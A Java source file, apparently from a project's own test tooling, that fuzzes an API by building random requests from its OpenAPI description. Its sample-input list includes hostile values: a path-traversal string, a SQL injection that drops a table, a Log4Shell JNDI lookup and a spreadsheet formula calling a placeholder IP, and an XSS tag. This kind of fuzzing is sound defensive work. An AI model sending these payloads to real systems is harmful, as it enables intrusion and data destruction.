package grastel.app.campaign;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Requests that the OpenAPI document describes, filled by chance: partly as it asks, partly with what nobody should send. */
final class RandomRequests {
    private static final JsonNodeFactory MAKE = JsonNodeFactory.instance;
    private static final double WRONG = 0.15;
    private static final double LEFT_OUT = 0.2;
    private static final int DEEPEST = 8;
    private static final List<String> METHODS = List.of("get", "put", "post", "delete", "patch");
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "x\u0000y",
            "\ud800",
            "\u202e\u200b",
            "İ".repeat(80),
            "a".repeat(20_000),
            "😀".repeat(200),
            "../../grastel.mv.db",
            "'; drop table teacher; --",
            "${jndi:ldap://192.0.2.1/a}",
            "<script>alert(1)</script>",
            "=HYPERLINK(\"http://192.0.2.1\")",
            "-1",
            "1e309",
            "NaN",
            "null",
            "2026-02-30",
            "+292278994-08-17T07:12:55.807Z");
    private static final List<Number> NUMBERS =
            List.of(0, -1, 1, 0.1, 1e308, -1e308, Double.MIN_VALUE, Integer.MAX_VALUE, Long.MIN_VALUE, Long.MAX_VALUE);

    private final JsonNode document;
    private final Random chance;
    /** Ids of rows that are there. */
    private final List<String> ids;

    private final List<Operation> operations = new ArrayList<>();

    private record Operation(String method, String path, JsonNode described) {}

    /** @param query names and values; @param body null for none */
    record Made(String method, String path, List<String[]> query, String body, String contentType) {}

    RandomRequests(JsonNode document, Random chance, List<String> ids) {
        this.document = document;
        this.chance = chance;
        this.ids = ids;
        document.get("paths")
                .properties()
                .forEach(path -> METHODS.forEach(method -> {
                    if (path.getValue().has(method)) {
                        operations.add(new Operation(
                                method, path.getKey(), path.getValue().get(method)));
                    }
                }));
    }

    int kinds() {
        return operations.size();
    }

    Made next() {
        Operation operation = any(operations);
        String path = operation.path();
        List<String[]> query = new ArrayList<>();
        for (JsonNode parameter : operation.described().path("parameters")) {
            String name = parameter.get("name").asString();
            String value = text(parameter.path("schema"));
            if (parameter.get("in").asString().equals("path")) {
                path = path.replace("{" + name + "}", value);
            } else if (parameter.get("in").asString().equals("query") && chance.nextDouble() > LEFT_OUT) {
                query.add(new String[] {name, value});
            }
        }
        JsonNode content = operation.described().path("requestBody").path("content");
        String type = content.isEmpty()
                ? "application/json"
                : content.propertyNames().iterator().next();
        String body = content.isEmpty() && chance.nextDouble() > WRONG
                ? null
                : broken(made(content.path(type).path("schema"), 0).toString());
        return new Made(
                operation.method(),
                path,
                query,
                body,
                chance.nextDouble() < WRONG
                        ? any(List.of("text/plain", "*/*", "application/xml", "multipart/form-data; boundary=x"))
                        : type);
    }

    private <T> T any(List<T> of) {
        return of.get(chance.nextInt(of.size()));
    }

    /** Seldom cut off, or with a bracket too many. */
    private String broken(String body) {
        if (chance.nextDouble() > WRONG / 3) {
            return body;
        }
        return chance.nextBoolean() ? body.substring(0, chance.nextInt(body.length() + 1)) : body + "}]";
    }

    private String text(JsonNode schema) {
        JsonNode value = made(schema, 0);
        return value.isString() ? value.asString() : value.toString();
    }

    private JsonNode made(JsonNode schema, int depth) {
        if (chance.nextDouble() < WRONG) {
            return anything();
        }
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asString();
            return depth > DEEPEST ? MAKE.nullNode() : made(document.at(name.substring(1)), depth + 1);
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(chance.nextInt(schema.get("enum").size()));
        }
        return switch (schema.path("type").asString("object")) {
            case "string" -> MAKE.stringNode(string(schema));
            case "integer" -> MAKE.numberNode(chance.nextInt(40));
            case "number" -> MAKE.numberNode(chance.nextDouble() * 100);
            case "boolean" -> MAKE.booleanNode(chance.nextBoolean());
            case "array" -> array(schema.path("items"), depth);
            default -> object(schema.path("properties"), depth);
        };
    }

    private String string(JsonNode schema) {
        return switch (schema.path("format").asString("")) {
            case "uuid" ->
                chance.nextInt(4) == 0 ? new UUID(chance.nextLong(), chance.nextLong()).toString() : any(ids);
            case "date" -> "2026-11-" + (10 + chance.nextInt(25));
            case "date-time" -> "2026-11-30T09:05:00Z";
            default -> chance.nextInt(3) == 0 ? any(TEXTS) : "Word " + chance.nextInt(1000);
        };
    }

    private JsonNode array(JsonNode items, int depth) {
        ArrayNode array = MAKE.arrayNode();
        int length = depth < 3 && chance.nextInt(100) == 0 ? 500 : chance.nextInt(4);
        for (int i = 0; i < length; i++) {
            array.add(made(items, depth + 1));
        }
        return array;
    }

    private JsonNode object(JsonNode properties, int depth) {
        ObjectNode object = MAKE.objectNode();
        properties.properties().forEach(property -> {
            if (chance.nextDouble() > LEFT_OUT) {
                object.set(property.getKey(), made(property.getValue(), depth + 1));
            }
        });
        return object;
    }

    private JsonNode anything() {
        return switch (chance.nextInt(6)) {
            case 0 -> MAKE.nullNode();
            case 1 -> MAKE.booleanNode(true);
            case 2 -> MAKE.arrayNode().add(MAKE.arrayNode().addNull());
            case 3 -> MAKE.objectNode().put("x", 1);
            case 4 -> MAKE.numberNode(any(NUMBERS).doubleValue());
            default -> MAKE.stringNode(any(TEXTS));
        };
    }
}
